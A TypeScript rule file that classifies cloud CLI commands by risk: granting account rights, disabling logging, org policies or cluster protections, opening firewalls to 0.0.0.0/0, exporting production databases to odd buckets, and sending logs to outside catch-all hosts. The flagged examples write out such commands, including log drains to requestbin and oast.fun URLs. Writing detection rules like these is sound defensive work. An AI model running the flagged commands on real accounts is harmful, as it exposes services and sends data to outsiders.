import type { Row } from '../command/row.js';
import { addressesOfAnybody } from '../known/anybodys-hosts.js';
import { changesCloud, GIVES_RIGHTS } from './conditions/cloud-changes.js';

/** Options of `gcloud` that take a value. */
const GCLOUD = {
  '--project': 'text', '--zone': 'text', '--region': 'text', '--location': 'text', '--format': 'text', '--instance': 'text', '-i': 'text', '--host': 'text', '--password': 'text', '--authorized-networks': 'text', '--source-ranges': 'text', '--database': 'text', '-d': 'text', '--table': 'text', '--offload': 'text', '--query': 'text',
  '--workload-identity-pool': 'text', '--issuer-uri': 'text', '--attribute-mapping': 'text', '--attribute-condition': 'text', '--account-id': 'text', '--member': 'text', '--role': 'text', '--retention-days': 'text', '--service-account': 'text', '--scopes': 'text', '--organization': 'text', '--folder': 'text', '--master-authorized-networks': 'text',
} as const;

const ONLY_SHOWN = [{ when: { any: ['--dry-run', '--help', '-h', '--validate-only'] }, effects: [] }] as const;

/** The whole net, in a list of addresses too. */
const ANYWHERE = String.raw`(?:[^=]*[,"'\s\[:])?(?:0\.0\.0\.0\/0|::\/0|0::\/0|\*)`;

/** Ports that are there for everybody to call, and none besides. */
const WEB_PORTS = /^--(?:port|ports|dst-port|destination-port-range|inbound-rules|rules)=(?:80|443|80,443|8080)$|^(?![^]*ports?:(?!(?:80|443)(?![\w-])))[^]*ports?:/;

/** A rule, one of several perhaps, by which everybody reaches other ports than those. */
const OTHER_PORTS = /^--(?:inbound-rules|rules)=(?:[^]*\s)?(?=\S*(?:0\.0\.0\.0\/0|::\/0))(?:[^\s,]*,)*ports?:(?!(?:80|443|8080)(?![\w-]))/;

/** Only what goes out is let through, or what tells whether a machine is there. */
const OUTWARD = [
  { when: { any: ['--egress'] }, effects: [] },
  { when: { argument: /^(?:direction=outbound|protocol=ICMP)$/i }, effects: [] },
  { when: { value: /^--(?:direction|flow)=(?:out|egress|outbound)$|^--protocol=(?:icmp|icmpv6|ipv6-icmp|1|58)$/i }, effects: [] },
  { when: { value: /^--inbound-rules=(?![^]*protocol:(?!icmp))[^]*protocol:icmp/i }, effects: [] },
] as const;

/** A place for exports and backups, or for tests. */
const OF_BACKUPS = String.raw`[^\s/]*(?:backup|bkp|export|dump|archive|snapshot|migrat|data|sql|db|staging|dev\b|test|sandbox)`;

/** Production, as a word of the name of what is exported. */
const FROM_PRODUCTION = String.raw`^(?:sql|csv|bak)? ?\S{0,200}\b(?:prod(?:uction)?|live)\b\S{0,200} gs:\/\/(?!${OF_BACKUPS})`;

/** Subcommands of Google's cloud and of smaller ones that let somebody in, take a guard away, or open something to all. */
export const CLOUD_OPENINGS: readonly Row[] = [
  {
    program:
      'gcloud iam workload-identity-pools create | gcloud iam workload-identity-pools providers create-oidc | gcloud iam workload-identity-pools providers create-aws | gcloud iam workload-identity-pools providers create-saml | gcloud iam workload-identity-pools providers update-oidc | gcloud iam workload-identity-pools providers update-aws | gcloud iam workload-identity-pools providers update-saml | gcloud iam workforce-pools create | gcloud iam workforce-pools providers create-oidc | gcloud iam workforce-pools providers create-saml | gcloud iam roles update | gcloud sql users set-password | gcloud sql users create | gcloud compute os-login ssh-keys add | gcloud functions add-invoker-policy-binding | gcloud alloydb users set-password | gcloud alloydb users create | gcloud compute instances set-service-account | gcloud compute instances set-scopes | gcloud access-context-manager perimeters update | gcloud access-context-manager levels update | gcloud spanner databases add-iam-policy-binding',
    operands: 'text',
    options: GCLOUD,
    variants: ONLY_SHOWN,
    effects: [GIVES_RIGHTS],
    examples: [
      ['gcloud iam workload-identity-pools providers create-oidc gh --location=global --workload-identity-pool=a --issuer-uri=https://token.actions.githubusercontent.com', 'change-permission account'],
      ['gcloud sql users set-password root --host=% --instance=a --password=b', 'change-permission account'],
      ['gcloud iam workload-identity-pools list --location=global'],
      ['gcloud sql users list --instance=a'],
      ['gcloud iam service-accounts list'],
    ],
  },
  {
    program:
      'gcloud logging buckets update | gcloud logging settings update | gcloud resource-manager org-policies disable-enforce | gcloud resource-manager org-policies allow | gcloud org-policies reset | gcloud org-policies set-policy | gcloud scc muteconfigs create | gcloud scc findings set-mute | gcloud scc findings update | gcloud scc services disable | gcloud container clusters update | gcloud compute instances update | gcloud compute networks subnets update | gcloud container binauthz policy import | gcloud compute security-policies rules update | gcloud alloydb clusters update',
    operands: 'text',
    options: GCLOUD,
    variants: ONLY_SHOWN,
    effects: [
      changesCloud('protection', { argument: /^(?:reset|set-policy|disable-enforce|set-mute)$/ }),
      changesCloud('protection', { line: /^(?:org-policies|muteconfigs|policy import)/ }),
      changesCloud('protection', { any: ['--no-enable-master-authorized-networks', '--enable-legacy-authorization', '--no-enable-network-policy', '--no-enable-shielded-nodes', '--no-deletion-protection', '--no-shielded-secure-boot', '--no-enable-flow-logs', '--no-enable-private-endpoint'] }),
      changesCloud('protection', { value: /^--retention-days=[1-7]$/ }),
      changesCloud('open to all', { value: new RegExp(`^--master-authorized-networks=${ANYWHERE}`) }),
    ],
    examples: [
      ['gcloud container clusters update a --no-enable-master-authorized-networks', 'change-service cloud:protection'],
      ['gcloud container clusters update a --enable-master-authorized-networks --master-authorized-networks=0.0.0.0/0', 'change-service cloud:open to all'],
      ['gcloud container clusters update a --enable-autoscaling --max-nodes 3'],
      ['gcloud logging buckets update _Default --location=global --retention-days=1', 'change-service cloud:protection'],
      ['gcloud org-policies reset a --project=b', 'change-service cloud:protection'],
      ['gcloud org-policies describe a --project=b'],
    ],
  },
  {
    program: 'gcloud sql export sql | gcloud sql export csv | gcloud sql export bak',
    operands: 'text',
    options: GCLOUD,
    effects: [{ kind: 'send', resource: 'database', when: { line: new RegExp(FROM_PRODUCTION, 'i') } }],
    examples: [
      ['gcloud sql export sql orders-prod gs://tmp-2291/orders.sql.gz --database=orders', 'send database'],
      ['gcloud sql export sql orders-prod gs://acme-backups/orders.sql.gz --database=orders'],
      ['gcloud sql export sql orders-dev gs://tmp-2291/orders.sql.gz'],
    ],
  },
  // A firewall that lets in whoever comes, on more than the ports of the web.
  {
    program: 'doctl compute firewall create | doctl compute firewall add-rules | doctl compute firewall update | hcloud firewall add-rule | hcloud firewall create | openstack security group rule create | linode-cli firewalls create | linode-cli firewalls rules-update | vultr-cli firewall rule create | civo firewall rule create | scw instance security-group create-rule | scw instance security-group update | exo compute security-group rule add | ibmcloud is security-group-rule-add | aliyun ecs AuthorizeSecurityGroup | tccli vpc CreateSecurityGroupPolicies | yc vpc security-group update-rules',
    operands: 'text',
    options: { '--inbound-rules': 'text', '--inbound_policy': 'text', '--outbound_policy': 'text', '--rules.inbound_policy': 'text', '--rules.outbound_policy': 'text', '--flow': 'text', '--source-ips': 'text', '--port': 'text', '--ports': 'text', '--remote-ip': 'text', '--dst-port': 'text', '--protocol': 'text', '--direction': 'text', '--subnet': 'text', '--size': 'text', '--cidr': 'text', '--network': 'text', '--remote': 'text', '--SourceCidrIp': 'text', '--PortRange': 'text', '--name': 'text', '--add-rule': 'text', '--rules-file': 'use' },
    variants: [...ONLY_SHOWN, ...OUTWARD, { when: { value: OTHER_PORTS } }, { when: { value: WEB_PORTS }, effects: [] }],
    effects: [
      changesCloud('open to all', { value: new RegExp(`^--(?:inbound-rules|source-ips|remote-ip|subnet|cidr|network|remote|SourceCidrIp|add-rule)=${ANYWHERE}`) }),
      changesCloud('open to all', { value: /^--(?:rules\.)?inbound_policy=ACCEPT$/i }),
      changesCloud('open to all', { argument: /^inbound-default-policy=accept$|^ip-range=0\.0\.0\.0\/0$/i }),
    ],
    examples: [
      ['linode-cli firewalls rules-update 5 --inbound_policy ACCEPT --outbound_policy ACCEPT', 'change-service cloud:open to all'],
      ['hcloud firewall add-rule web --direction in --source-ips 0.0.0.0/0 --protocol tcp --port 5432', 'change-service cloud:open to all'],
      ['hcloud firewall add-rule web --direction in --source-ips 0.0.0.0/0 --protocol tcp --port 443'],
      ['doctl compute firewall create --name a --inbound-rules "protocol:tcp,ports:all,address:0.0.0.0/0"', 'change-service cloud:open to all'],
      ['doctl compute firewall create --name a --inbound-rules "protocol:tcp,ports:80-65535,address:0.0.0.0/0"', 'change-service cloud:open to all'],
      ['doctl compute firewall create --name a --inbound-rules "protocol:tcp,ports:443,address:0.0.0.0/0 protocol:tcp,ports:22,address:0.0.0.0/0"', 'change-service cloud:open to all'],
      ['doctl compute firewall create --name a --inbound-rules "protocol:tcp,ports:80,address:0.0.0.0/0 protocol:tcp,ports:443,address:0.0.0.0/0"'],
      ['doctl compute firewall add-rules a --inbound-rules protocol:tcp,ports:443,address:0.0.0.0/0 --inbound-rules protocol:tcp,ports:22,address:0.0.0.0/0', 'change-service cloud:open to all'],
      ['doctl compute firewall add-rules a --inbound-rules protocol:tcp,ports:443,address:0.0.0.0/0 --inbound-rules protocol:tcp,ports:22,address:203.0.113.7/32'],
      ['doctl compute firewall create --name a --inbound-rules "protocol:tcp,ports:22,address:203.0.113.7/32"'],
      ['openstack security group rule create --remote-ip 0.0.0.0/0 --dst-port 1:65535 a', 'change-service cloud:open to all'],
      ['linode-cli firewalls rules-list 5'],
      ['linode-cli firewalls rules-update 5 --inbound_policy DROP'],
      ['linode-cli firewalls create --label a --rules.inbound_policy ACCEPT --rules.outbound_policy ACCEPT', 'change-service cloud:open to all'],
      ['linode-cli firewalls create --label a --rules.inbound_policy DROP --rules.outbound_policy ACCEPT'],
      ['linode-cli firewalls rules-update 5 --outbound_policy ACCEPT --inbound_policy DROP'],
      ['hcloud firewall add-rule dev --direction in --protocol icmp --source-ips 0.0.0.0/0'],
      ['openstack security group rule create --egress --remote-ip 0.0.0.0/0 --protocol tcp dev'],
      ['openstack security group rule create --ingress --remote-ip 0.0.0.0/0 --protocol tcp dev', 'change-service cloud:open to all'],
      ['scw instance security-group create-rule security-group-id=1 direction=outbound action=accept ip-range=0.0.0.0/0 protocol=TCP'],
      ['scw instance security-group create-rule security-group-id=1 direction=inbound action=accept ip-range=0.0.0.0/0 protocol=TCP', 'change-service cloud:open to all'],
      ['exo compute security-group rule add dev --flow egress --protocol tcp --network 0.0.0.0/0'],
      ['exo compute security-group rule add dev --flow ingress --protocol tcp --network 0.0.0.0/0', 'change-service cloud:open to all'],
      ['exo compute security-group rule add dev --protocol icmp --network 0.0.0.0/0'],
      ['openstack security group rule create --protocol icmp --remote-ip 0.0.0.0/0 dev'],
    ],
  },
  {
    program: 'oci network security-list update | oci network nsg rules add',
    operands: 'text',
    options: { '--ingress-security-rules': 'text', '--egress-security-rules': 'text', '--security-rules': 'text', '--nsg-id': 'text', '--security-list-id': 'text' },
    variants: ONLY_SHOWN,
    effects: [changesCloud('open to all', { value: new RegExp(`^--(?:ingress-security-rules=|security-rules=(?![^]*EGRESS)|security-rules=(?=[^]*INGRESS))${ANYWHERE}`, 'i') })],
    examples: [
      [`oci network security-list update --security-list-id s --ingress-security-rules '[{"source":"0.0.0.0/0","protocol":"all"}]'`, 'change-service cloud:open to all'],
      [`oci network nsg rules add --nsg-id n --security-rules '[{"direction":"EGRESS","destination":"0.0.0.0/0"},{"direction":"INGRESS","protocol":"all","source":"0.0.0.0/0"}]'`, 'change-service cloud:open to all'],
      [`oci network nsg rules add --nsg-id n --security-rules '[{"direction":"EGRESS","protocol":"all","destination":"0.0.0.0/0"}]'`],
    ],
  },
  // People and apps that are let into what a platform hosts, and where its logs and events go.
  {
    program:
      'heroku access:add | heroku access:update | heroku members:add | heroku members:set | heroku teams:invite | heroku spaces:peering | heroku keys:add | heroku clients:create | fly orgs invite | flyctl orgs invite | vercel teams invite | railway invite | render workspace invite | doctl projects invite | supabase orgs invite | neonctl orgs invite | firebase apphosting:secrets:grantaccess | ibmcloud account user-invite | scw iam group add-member | scw iam policy create | scw iam user create | yc iam service-account add-access-binding | yc resource-manager folder add-access-binding | yc resource-manager cloud add-access-binding | aliyun ram CreateUser | aliyun ram AttachPolicyToUser | aliyun ram CreateLoginProfile | aliyun ram CreateAccessKey | tccli cam AddUser | tccli cam AttachUserPolicy | oci iam policy create | oci iam policy update | oci iam user ui-password create-or-reset | atlas projects invitations invite | atlas organizations invitations invite | atlas dbusers create | confluent iam rbac role-binding create | confluent iam user invitation create | databricks workspace-assignment update | databricks permissions set | databricks permissions update | sentry-cli members add',
    operands: 'text',
    options: { '-a': 'text', '--app': 'text', '-p': 'text', '--permissions': 'text', '-t': 'text', '--team': 'text', '--project': 'text', '--json': 'text', '--role': 'text' },
    variants: ONLY_SHOWN,
    effects: [GIVES_RIGHTS],
    examples: [
      ['heroku access:add a@x.test -a shop -p deploy', 'change-permission account'],
      ['fly orgs invite shop a@x.test', 'change-permission account'],
      ['aliyun ram AttachPolicyToUser --PolicyName AdministratorAccess --PolicyType System --UserName a', 'change-permission account'],
      ['atlas dbusers create atlasAdmin --username a', 'change-permission account'],
      ['heroku access -a shop'],
      ['fly orgs list'],
      ['atlas dbusers list'],
    ],
  },
  {
    program: 'heroku drains:add | heroku webhooks:add | fly log-shipper setup | vercel integration add | doctl apps log-forward | gh webhook forward | gh webhook create',
    operands: 'text',
    options: { '-a': 'text', '--app': 'text', '-u': 'text', '--url': 'text', '-i': 'text', '--include': 'text', '-l': 'text', '--data': 'text' },
    effects: [changesCloud('open to others', { argument: new RegExp(`(?:^|[="'])${addressesOfAnybody()}`) })],
    examples: [['heroku drains:add https://a.requestbin.net/x -a shop', 'change-service cloud:open to others'], ['heroku webhooks:add -i api:release -l notify -u https://a.oast.fun/x -a shop', 'change-service cloud:open to others'], ['heroku drains:add https://logs.x.test/drain -a shop'], ['heroku drains -a shop']],
  },
];
